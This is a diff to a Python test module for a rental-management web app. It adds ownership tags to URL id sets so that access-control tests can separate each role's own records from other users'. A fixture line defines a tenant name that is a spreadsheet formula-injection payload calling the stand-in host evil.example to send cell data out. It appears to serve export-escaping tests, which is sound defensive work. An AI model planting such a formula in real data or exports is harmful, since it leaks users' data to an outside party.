@@ -43,6 +43,7 @@ from tests.factories import (
 
 # A day the 2026 campaign is open: every rent page offers its forms.
 CAMPAIGN_DAY = datetime.datetime(2026, 11, 27, 10, 30, tzinfo=datetime.UTC)
+OWNERS = "_owners"
 HOSTILE_TENANT = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
 
 
@@ -71,8 +72,16 @@ class Role:
 @dataclass
 class World:
     roles: dict[str, Role]
-    # Consistent sets of URL ids: {"portfolio_id": 3, "tenancy_id": 12}, {"landlord_id": ...}.
+    # Consistent sets of URL ids: {"portfolio_id": 3, "tenancy_id": 12}, {"landlord_id": ...},
+    # each with the roles whose own data it is (OWNERS): for others it is someone else's.
     ids: list[dict[str, object]]
+
+    def ids_for(self, names: set[str], role: Role) -> tuple[list[dict], list[dict]]:
+        """(the role's own id sets, the others') that fill these URL arguments."""
+        fitting = [i for i in self.ids if names <= set(i)]
+        own = [i for i in fitting if role.name in i[OWNERS]]
+        return own, [i for i in fitting if role.name not in i[OWNERS]]
+
     tenant_names: list[str]
 
 
@@ -244,13 +253,23 @@ def build_world() -> World:
     roles["staff_enrol"] = Role("staff_enrol", None, STAFF_PASSWORD)
     _session(roles["staff_enrol"], **{PENDING: {"user": enrolling.pk, "at": now.timestamp()}})
 
-    for parc in (portfolio, north, south):
+    staff = ("agent", "supervisor", "administrator", "superuser")
+    parcs = [
+        (portfolio, ("landlord",)),
+        (north, ("admin", "colleague")),
+        (south, ("admin", "colleague")),
+    ]
+    for parc, owners in parcs:
         for tenancy in parc.tenancies.all():
-            ids.append({"portfolio_id": parc.pk, "tenancy_id": tenancy.pk})
-    ids.append({"portfolio_id": portfolio.pk, "submission_id": submission.pk})
-    ids.append({"portfolio_id": portfolio.pk, "import_id": bulk.pk})
+            ids.append({"portfolio_id": parc.pk, "tenancy_id": tenancy.pk, OWNERS: owners})
+    ids.append(
+        {"portfolio_id": portfolio.pk, "submission_id": submission.pk, OWNERS: ("landlord",)}
+    )
+    ids.append({"portfolio_id": portfolio.pk, "import_id": bulk.pk, OWNERS: ("landlord",)})
     for user in (landlord, admin, colleague, suspended):
-        ids.append({"landlord_id": user.landlord_id, "user_id": user.pk})
-    ids += [{"receipt_id": receipt.pk}, {"message_id": failed.pk}]
-    ids += [{"message_id": message.pk} for message in sent]
+        team = ("admin",) if user.landlord_id == company.pk else ()
+        ids.append({"landlord_id": user.landlord_id, "user_id": user.pk, OWNERS: staff + team})
+    ids.append({"receipt_id": receipt.pk, OWNERS: staff})
+    ids.append({"message_id": failed.pk, OWNERS: staff + ("landlord",)})
+    ids += [{"message_id": message.pk, OWNERS: ("landlord",)} for message in sent]
     return World(roles=roles, ids=ids, tenant_names=[HOSTILE_TENANT])
